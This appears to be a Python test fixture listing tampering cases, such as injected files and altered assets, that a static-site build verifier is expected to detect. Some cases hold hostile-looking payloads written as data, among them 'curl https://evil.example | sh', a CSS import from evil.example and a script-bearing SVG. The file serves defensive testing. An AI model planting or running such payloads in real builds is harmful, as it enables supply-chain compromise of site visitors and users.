"""Files where none belongs, and other bytes where ours belong."""

from __future__ import annotations

from collections.abc import Mapping

from hostile_artifacts.artifact import TOP
from hostile_artifacts.spoiling import (
    BUNDLE,
    FONT,
    LOGO,
    SEARCH,
    SHEET,
    Case,
    file,
    named,
)

PLACES: Mapping[str, Case] = {
    "a script of ours with a line more": file(
        SEARCH, lambda raw: raw + b"alert(1);\n", "is not the file that this version of the program publishes there"
    ),
    "a script that we do not have": named("assets/js/evil.js", BUNDLE and "assets/js/evil.js: is no file that our build writes there"),
    "a worker": named("sw.js", "sw.js: is no file that our build writes there"),
    "our style with an import": file(
        SHEET,
        lambda raw: b"@import url(https://evil.example/);" + raw,
        "is not the file that this version of the program publishes there",
    ),
    "a style that we do not have": named(
        "assets/css/evil.000000000000.css", "assets/css/evil.000000000000.css: is no file that our build writes there"
    ),
    "another image": file(
        LOGO,
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>",
        "is not the file that this version of the program publishes there",
    ),
    "another font": file(FONT, b"wOF2", "is not the file that this version of the program publishes there"),
    "an image that we do not have": named("assets/icons/x.svg", "assets/icons/x.svg: is no file that our build writes there"),
    "a page that is a picture": named("en/x.png", "en/x.png: is no file that our build writes there"),
    "a program": named("setup.exe", "setup.exe: is no file that our build writes there"),
    "an archive in the archive": named("data/x.zip", "data/x.zip: is no file that our build writes there"),
    "a page by another suffix": named("en/x.xhtml", "en/x.xhtml: is no file that our build writes there"),
    "a page with two suffixes": named("en/x.html.js", "en/x.html.js: is no file that our build writes there"),
    "a page in capitals": named("en/x.HTML", "en/x.HTML: is no file that our build writes there"),
    "a page at the top": named("evil.html", "evil.html: is no file that our build writes there"),
    "a page for servers": named("404.html", "404.html: is no file that our build writes there"),
    "headers for a host": named("_headers", "_headers: is no file that our build writes there"),
    "settings of a server": named(".htaccess", ".htaccess: is no file that our build writes there"),
    "a repository": named(".git/config", ".git/config: is no file that our build writes there"),
    "a workflow": named(".github/workflows/x.yml", ".github/workflows/x.yml: is no file that our build writes there"),
    "another host's name": named("CNAME", "CNAME: is no file that our build writes there"),
    "another report": named("report.html", "report.html: is no file that our build writes there"),
    "the name of a piece": named(
        "README.html#style", f"{TOP}/README.html#style: a name with other characters than Latin letters, digits and . _ -"
    ),
    "another licence": file("licences/LICENSE.txt", b"x", "is not the file that this version of the program publishes there"),
    "another program that verifies": file(
        "verify.sh", b"curl https://evil.example | sh\n", "is not the file that this version of the program publishes there"
    ),
}
